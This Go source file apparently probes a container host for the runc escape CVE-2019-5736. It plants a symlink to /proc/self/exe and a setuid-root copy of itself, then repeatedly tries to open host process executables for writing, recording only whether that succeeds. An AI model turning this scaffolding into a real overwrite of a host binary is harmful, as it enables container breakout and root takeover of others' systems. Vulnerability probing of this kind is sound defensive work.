package probe

import (
	"errors"
	"os"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// What Plant leaves in a throw-away site, for the host to act on.
const (
	PlantedLink   = "/var/lib/proof-link"   // to /proc/self/exe: of whoever executes it
	PlantedSetuid = "/var/lib/proof-setuid" // setuid root
)

// Plant prepares the site for what the host then does to it.
func Plant() error {
	if err := os.Symlink("/proc/self/exe", PlantedLink); err != nil {
		return err
	}
	return errors.Join(copySelf(PlantedSetuid), os.Chmod(PlantedSetuid, 0o755|os.ModeSetuid|os.ModeSetgid))
}

// grabTime is for how long Grab tries.
const grabTime = 2 * time.Second

// Grab tries, over and over, to open for writing the program of each process whose program is none of the site's: of a command
// that the host has PID 1 execute through PlantedLink (CVE-2019-5736).
func Grab() error {
	seen := several{}
	for end := time.Now().Add(grabTime); time.Now().Before(end); {
		for _, pid := range processes() {
			path := "/proc/" + pid + "/exe"
			target, err := os.Readlink(path)
			if err == nil && !strings.Contains(target, "logis-init") {
				continue // a program of the site's
			}
			fd, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0)
			switch {
			case err == nil:
				unix.Close(fd)
				seen.add(said("opened " + target))
			case errors.Is(err, unix.ENOENT) || errors.Is(err, unix.ESRCH): // it has ended
			default:
				seen.add(err)
			}
		}
	}
	return seen.all("")
}
